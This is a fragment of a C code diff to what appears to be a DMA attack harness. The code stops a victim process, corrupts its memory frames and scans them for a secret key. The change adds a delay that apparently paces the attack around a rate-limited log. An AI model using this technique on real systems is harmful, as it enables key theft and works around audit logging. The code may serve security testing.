@@ -9,6 +9,7 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <unistd.h>
+#include <x86intrin.h>
 #include <carrel/hypercall.h>
 #include <secret.h>
 #include "dma.h"
@@ -213,6 +214,15 @@ size_t thin(size_t count, size_t step)
 	return left;
 }
 
+/* A scan uses up all lines that a guest may cause; one more is logged each 2^32 cycles. */
+static void wait_for_log(void)
+{
+	uint64_t begin = __rdtsc();
+
+	while (__rdtsc() - begin < 1UL << 32)
+		usleep(100000);
+}
+
 /* Every `step`th of their frames is read. */
 static void guarded(unsigned int device, size_t step)
 {
@@ -227,8 +237,10 @@ static void guarded(unsigned int device, size_t step)
 	scanned = scan(victim.key);
 	count = private_frames(&scanned);
 	kill(victim.pid, SIGSTOP);
-	if (!open)
+	if (!open) {
+		wait_for_log();
 		written = dma_spoil(device, frames, count);
+	}
 	count = thin(count, step);
 	seen = dma_scan(device, victim.key, frames, count);
 	faults = dma_faults(device) - faults;
